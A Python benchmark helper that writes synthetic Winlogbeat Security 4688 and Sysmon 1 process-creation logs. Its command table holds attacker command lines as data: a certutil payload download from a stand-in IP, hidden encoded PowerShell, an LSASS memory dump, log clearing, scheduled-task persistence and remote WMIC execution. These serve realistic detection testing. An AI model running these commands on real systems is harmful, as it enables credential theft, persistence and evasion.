#!/usr/bin/env python3
"""Writes synthetic Winlogbeat 8 JSON lines of process creations, for bench/ingest_bench.sh.

    bench/make_winlogbeat.py [--full] [--seed N] EVENTS OUT

About 60 % Security 4688 events as the security module ships them (NewProcessId, NewProcessName
and ParentProcessName renamed to process.*, CommandLine copied to process.command_line) and 40 %
Sysmon 1 events as the sysmon module ships them (process.*, user.*, process.hash.*, UtcTime as
@timestamp), from 20 hosts and 50 users running a mix of 30 everyday and attacker commands;
timestamps increase, record ids count per host and channel. The same seed writes the same file.

Without --full a line keeps what a reader needs (~650 bytes, like BM_*Winlogbeat in
bench/ingest_bench.cpp); --full writes everything Winlogbeat adds (agent, ecs, log, ECS event
classification, user/related, the whole winlog object and Windows' rendered message: ~3 KB, like
BM_*WinlogbeatFull). Layouts: shared/reference/windows-events.md section 7.2.
"""
import argparse
import hashlib
import json
import random
import sys
from datetime import datetime, timedelta, timezone

SECURITY_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"
SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
SYS32 = "C:\\Windows\\System32\\"

# (image, description, command line): everyday activity first, then what attackers type.
COMMANDS = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google Chrome",
     '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US'),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Microsoft Outlook",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle'),
    (SYS32 + "svchost.exe", "Host Process for Windows Services",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    (SYS32 + "conhost.exe", "Console Window Host",
     "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    (SYS32 + "notepad.exe", "Notepad",
     '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\Public\\todo.txt'),
    (SYS32 + "taskhostw.exe", "Host Process for Windows Tasks", "taskhostw.exe KEYROAMING"),
    (SYS32 + "gpupdate.exe", "Microsoft® Windows Group Policy Update Utility", "gpupdate /force"),
    (SYS32 + "msiexec.exe", "Windows® installer", "C:\\Windows\\system32\\msiexec.exe /V"),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell",
     "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1"),
    (SYS32 + "cmd.exe", "Windows Command Processor", 'cmd.exe /c "C:\\Scripts\\logon.bat"'),
    (SYS32 + "whoami.exe", "whoami - displays logged on user information", "whoami /all"),
    (SYS32 + "net.exe", "Net Command", "net user /domain"),
    (SYS32 + "net.exe", "Net Command", 'net group "Domain Admins" /domain'),
    (SYS32 + "net.exe", "Net Command", "net  view \\\\fs01.corp.example"),
    (SYS32 + "net.exe", "Net Command",
     "net use \\\\srv-db-02\\c$ /user:CORP\\svc_backup Winter2025!"),
    (SYS32 + "nltest.exe", "Logon Server Test Utility", "nltest /dclist:corp.example"),
    (SYS32 + "ipconfig.exe", "IP Configuration Utility", "ipconfig /all"),
    (SYS32 + "systeminfo.exe", "Displays system information", "systeminfo"),
    (SYS32 + "tasklist.exe", "Lists the current running tasks", "tasklist /v"),
    (SYS32 + "NETSTAT.EXE", "TCP/IP Netstat Command", "netstat -ano"),
    (SYS32 + "quser.exe", "Query User Utility", "quser"),
    (SYS32 + "reg.exe", "Registry Console Tool",
     'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"'),
    (SYS32 + "schtasks.exe", "Task Scheduler Configuration Tool",
     'schtasks /create /tn "Updater" /tr "C:\\Users\\Public\\upd.exe" /sc onlogon /ru SYSTEM'),
    (SYS32 + "wbem\\WMIC.exe", "WMI Commandline Utility",
     'wmic /node:srv-db-02 process call create "cmd /c whoami > C:\\Windows\\Temp\\o.txt"'),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell",
     "powershell -nop -w hidden -enc "
     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    (SYS32 + "certutil.exe", "CertUtil.exe",
     "certutil -urlcache -split -f http://203.0.113.7/a.txt C:\\Users\\Public\\a.exe"),
    (SYS32 + "rundll32.exe", "Windows host process (Rundll32)",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full"),
    (SYS32 + "vssadmin.exe", "Command Line Interface for Microsoft® Volume Shadow Copy Service",
     "vssadmin create shadow /for=C:"),
    (SYS32 + "wevtutil.exe", "Eventing Command Line Utility", "wevtutil cl Security"),
    (SYS32 + "cmd.exe", "Windows Command Processor",
     "cmd /c dir c:\\users /s /b > C:\\Windows\\Temp\\d.txt"),
]
PARENTS = [
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    (SYS32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" '),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
     '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '),
    (SYS32 + "services.exe", "C:\\Windows\\system32\\services.exe"),
]
FIRST_NAMES = ["jdoe", "asmith", "bchen", "mgarcia", "kpatel", "lnguyen", "omuller", "rtanaka",
               "sdubois", "tkowalski"]
INTEGRITY = [("S-1-16-8192", "Medium"), ("S-1-16-12288", "High"), ("S-1-16-16384", "System")]

TYPE_PARAGRAPHS = (
    "Token Elevation Type indicates the type of token that was assigned to the new process in "
    "accordance with User Account Control policy.\n\n"
    "Type 1 is a full token with no privileges removed or groups disabled.  A full token is only "
    "used if User Account Control is disabled or if the user is the built-in Administrator account "
    "or a service account.\n\n"
    "Type 2 is an elevated token with no privileges removed or groups disabled.  An elevated token "
    "is used when User Account Control is enabled and the user chooses to start the program using "
    "Run as administrator.  An elevated token is also used when an application is configured to "
    "always require administrative privilege or to always require maximum privilege, and the user "
    "is a member of the Administrators group.\n\n"
    "Type 3 is a limited token with administrative privileges removed and administrative groups "
    "disabled.  The limited token is used when User Account Control is enabled, the application "
    "does not require administrative privilege, and the user does not choose to start the program "
    "using Run as administrator.")


def split_command_line(line):
    """process.args: CommandLineToArgvW's rules for quotes, without its backslash cases."""
    args, cur, quoted, has = [], [], False, False
    for ch in line:
        if ch == '"':
            quoted, has = not quoted, True
        elif ch in " \t" and not quoted:
            if has:
                args.append("".join(cur))
            cur, has = [], False
        else:
            cur.append(ch)
            has = True
    if has:
        args.append("".join(cur))
    return args


def basename(path):
    return path.rsplit("\\", 1)[-1]


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)


def sysmon_time(t):
    return t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000)


def guid(rng):
    return "{7d1e2a3b-%04x-%04x-%04x-%012x}" % (rng.getrandbits(16), rng.getrandbits(16),
                                                 rng.getrandbits(16), rng.getrandbits(48))


class World:
    """Hosts, users and their logon sessions, all drawn from one seeded generator."""

    def __init__(self, rng):
        self.hosts = []
        for i in range(20):
            name = ("srv-%s-%02d" % (["db", "app", "fs", "dc"][i % 4], i) if i % 5 == 0
                    else "ws-%s-%02d" % (["fin", "hr", "eng", "ops"][i % 4], i))
            self.hosts.append({
                "name": name, "fqdn": name.upper() + ".corp.example",
                "agent_id": "%08x-%04x-4%03x-8%03x-%012x" % (
                    rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(12),
                    rng.getrandbits(12), rng.getrandbits(48)),
                "sysmon_pid": 2000 + 4 * rng.randrange(500),
            })
        self.users = []
        for i in range(50):
            self.users.append({
                "name": "%s%d" % (FIRST_NAMES[i % len(FIRST_NAMES)], i // len(FIRST_NAMES))
                        if i >= len(FIRST_NAMES) else FIRST_NAMES[i],
                "sid": "S-1-5-21-1111111111-2222222222-3333333333-%d" % (1104 + i),
                "logon_id": "0x%x" % (0x3e7 + 0x1000 * (i + 1) + rng.randrange(0x1000)),
                "logon_guid": guid(rng),
            })
        self.records = {}

    def next_record(self, host, channel):
        key = (host["name"], channel)
        self.records[key] = self.records.get(key, 100000) + 1
        return self.records[key]


def envelope(t, host, event, full=False):
    """The members before the event's own, in the order Beats writes them."""
    out = {"@timestamp": iso(t)}
    if full:
        out["agent"] = {"ephemeral_id": "4c8e2b52-7c1d-4a8e-9f0e-2d5b3a6c7e11",
                        "id": host["agent_id"], "name": host["fqdn"].split(".")[0],
                        "type": "winlogbeat", "version": "8.12.2"}
        out["ecs"] = {"version": "8.0.0"}
    out["event"] = event
    out["host"] = {"name": host["name"]}
    if full:
        out["log"] = {"level": "information"}
    return out


def security_4688(w, rng, t, host, user, cmd, parent, full):
    image, _, line = cmd
    pid, ppid = 4 * rng.randrange(250, 16000), 4 * rng.randrange(250, 16000)
    label = INTEGRITY[rng.randrange(2)][0]
    rec = w.next_record(host, "Security")
    if not full:
        out = envelope(t, host, {"code": "4688", "provider": "Microsoft-Windows-Security-Auditing",
                                 "action": "created-process"})
        out["process"] = {"pid": pid, "executable": image, "command_line": line,
                          "parent": {"executable": parent[0]}}
        out["winlog"] = {"channel": "Security", "event_id": "4688", "record_id": str(rec),
                         "computer_name": host["fqdn"],
                         "event_data": {"SubjectUserSid": user["sid"],
                                        "SubjectUserName": user["name"],
                                        "SubjectDomainName": "CORP",
                                        "SubjectLogonId": user["logon_id"],
                                        "ProcessId": "0x%x" % ppid, "TargetUserName": "-",
                                        "MandatoryLabel": label}}
        return out
    message = (
        "A new process has been created.\n\nCreator Subject:\n"
        "\tSecurity ID:\t\t%s\n\tAccount Name:\t\t%s\n\tAccount Domain:\t\tCORP\n"
        "\tLogon ID:\t\t%s\n\n"
        "Target Subject:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n"
        "\tLogon ID:\t\t0x0\n\nProcess Information:\n\tNew Process ID:\t\t0x%x\n"
        "\tNew Process Name:\t%s\n\tToken Elevation Type:\tTokenElevationTypeLimited (3)\n"
        "\tMandatory Label:\t\t%s\n\tCreator Process ID:\t0x%x\n\tCreator Process Name:\t%s\n"
        "\tProcess Command Line:\t%s\n\n%s"
        % (user["sid"], user["name"], user["logon_id"].upper().replace("0X", "0x"), pid, image,
           label, ppid, parent[0], line, TYPE_PARAGRAPHS))
    out = envelope(t, host, {"action": "created-process", "category": ["process"], "code": "4688",
                             "created": iso(t + timedelta(milliseconds=461)), "kind": "event",
                             "module": "security", "outcome": "success",
                             "provider": "Microsoft-Windows-Security-Auditing", "type": ["start"]},
                   full=True)
    out.update({
        "message": message,
        "process": {"args": split_command_line(line), "command_line": line, "executable": image,
                    "name": basename(image),
                    "parent": {"executable": parent[0], "name": basename(parent[0])}, "pid": pid},
        "related": {"user": [user["name"]]},
        "user": {"domain": "CORP", "id": user["sid"], "name": user["name"]},
        "winlog": {
            "api": "wineventlog", "channel": "Security", "computer_name": host["fqdn"],
            "event_data": {"SubjectUserSid": user["sid"], "SubjectUserName": user["name"],
                           "SubjectDomainName": "CORP", "SubjectLogonId": user["logon_id"],
                           "TokenElevationType": "%%1938", "ProcessId": "0x%x" % ppid,
                           "CommandLine": line, "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
                           "TargetDomainName": "-", "TargetLogonId": "0x0",
                           "MandatoryLabel": label},
            "event_id": "4688", "keywords": ["Audit Success"], "logon": {"id": user["logon_id"]},
            "opcode": "Info", "process": {"pid": 4, "thread": {"id": 7316}},
            "provider_guid": SECURITY_GUID, "provider_name": "Microsoft-Windows-Security-Auditing",
            "record_id": str(rec), "task": "Process Creation", "version": 2},
    })
    return out


def sysmon_1(w, rng, t, host, user, cmd, parent, full):
    image, description, line = cmd
    pid, ppid = 4 * rng.randrange(250, 16000), 4 * rng.randrange(250, 16000)
    pguid, ppguid = guid(rng), guid(rng)
    cwd = "C:\\Users\\%s\\" % user["name"]
    integrity = INTEGRITY[rng.randrange(3)][1]
    rec = w.next_record(host, "Sysmon")
    if not full:
        out = envelope(t, host, {"code": "1", "provider": "Microsoft-Windows-Sysmon",
                                 "action": "Process Create (rule: ProcessCreate)"})
        out["process"] = {"entity_id": pguid, "pid": pid, "executable": image,
                          "command_line": line, "working_directory": cwd,
                          "parent": {"entity_id": ppguid, "pid": ppid, "executable": parent[0],
                                     "command_line": parent[1]}}
        out["user"] = {"domain": "CORP", "name": user["name"]}
        out["winlog"] = {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1",
                         "record_id": str(rec), "computer_name": host["fqdn"],
                         "event_data": {"LogonId": user["logon_id"], "IntegrityLevel": integrity}}
        return out
    sha256 = hashlib.sha256(image.lower().encode()).hexdigest()
    imphash = hashlib.md5(image.lower().encode()).hexdigest()
    pe = {"company": "Microsoft Corporation", "description": description,
          "file_version": "10.0.19041.1 (WinBuild.160101.0800)",
          "original_file_name": basename(image),
          "product": "Microsoft® Windows® Operating System"}
    fields = [
        ("RuleName", "-"), ("UtcTime", sysmon_time(t)), ("ProcessGuid", pguid), ("ProcessId", pid),
        ("Image", image), ("FileVersion", pe["file_version"]), ("Description", description),
        ("Product", pe["product"]), ("Company", pe["company"]),
        ("OriginalFileName", pe["original_file_name"]), ("CommandLine", line),
        ("CurrentDirectory", cwd), ("User", "CORP\\" + user["name"]),
        ("LogonGuid", user["logon_guid"]), ("LogonId", user["logon_id"]),
        ("TerminalSessionId", 1), ("IntegrityLevel", integrity),
        ("Hashes", "SHA256=%s,IMPHASH=%s" % (sha256.upper(), imphash.upper())),
        ("ParentProcessGuid", ppguid), ("ParentProcessId", ppid), ("ParentImage", parent[0]),
        ("ParentCommandLine", parent[1]), ("ParentUser", "CORP\\" + user["name"]),
    ]
    message = "Process Create:\n" + "\n".join("%s: %s" % kv for kv in fields)
    out = envelope(t, host, {"action": "Process Create (rule: ProcessCreate)",
                             "category": ["process"], "code": "1",
                             "created": iso(t + timedelta(milliseconds=388)), "kind": "event",
                             "module": "sysmon", "provider": "Microsoft-Windows-Sysmon",
                             "type": ["start", "process_start"]},
                   full=True)
    out.update({
        "message": message,
        "process": {"args": split_command_line(line), "command_line": line, "entity_id": pguid,
                    "executable": image, "hash": {"sha256": sha256}, "name": basename(image),
                    "parent": {"args": split_command_line(parent[1]), "command_line": parent[1],
                               "entity_id": ppguid, "executable": parent[0],
                               "name": basename(parent[0]), "pid": ppid},
                    "pe": dict(pe, imphash=imphash), "pid": pid, "working_directory": cwd},
        "related": {"hash": [sha256, imphash], "user": [user["name"]]},
        "user": {"domain": "CORP", "name": user["name"]},
        "winlog": {
            "api": "wineventlog", "channel": "Microsoft-Windows-Sysmon/Operational",
            "computer_name": host["fqdn"],
            "event_data": {"Company": pe["company"], "Description": description,
                           "FileVersion": pe["file_version"], "IntegrityLevel": integrity,
                           "LogonGuid": user["logon_guid"], "LogonId": user["logon_id"],
                           "ParentUser": "CORP\\" + user["name"], "Product": pe["product"],
                           "TerminalSessionId": "1"},
            "event_id": "1", "opcode": "Info",
            "process": {"pid": host["sysmon_pid"], "thread": {"id": host["sysmon_pid"] + 1292}},
            "provider_guid": SYSMON_GUID, "provider_name": "Microsoft-Windows-Sysmon",
            "record_id": str(rec), "task": "Process Create (rule: ProcessCreate)",
            "user": {"domain": "NT AUTHORITY", "identifier": "S-1-5-18", "name": "SYSTEM",
                     "type": "User"},
            "version": 5},
    })
    return out




def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("events", type=int, help="number of lines")
    ap.add_argument("out", help="output file (- for standard output)")
    ap.add_argument("--full", action="store_true", help="everything Winlogbeat 8 ships")
    ap.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    args = ap.parse_args()
    rng = random.Random(args.seed)
    world = World(rng)
    t = datetime(2025, 3, 14, 8, 0, 0, tzinfo=timezone.utc)
    out = sys.stdout if args.out == "-" else open(args.out, "w", encoding="utf-8")
    dumps = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode
    batch = []
    for _ in range(args.events):
        t += timedelta(microseconds=rng.randrange(1, 3000))
        host = world.hosts[rng.randrange(len(world.hosts))]
        user = world.users[rng.randrange(len(world.users))]
        cmd = COMMANDS[rng.randrange(len(COMMANDS))]
        parent = PARENTS[rng.randrange(len(PARENTS))]
        make = security_4688 if rng.random() < 0.6 else sysmon_1
        batch.append(dumps(make(world, rng, t, host, user, cmd, parent, args.full)))
        if len(batch) == 10000:
            out.write("\n".join(batch) + "\n")
            batch = []
    if batch:
        out.write("\n".join(batch) + "\n")
    if out is not sys.stdout:
        out.close()


if __name__ == "__main__":
    main()
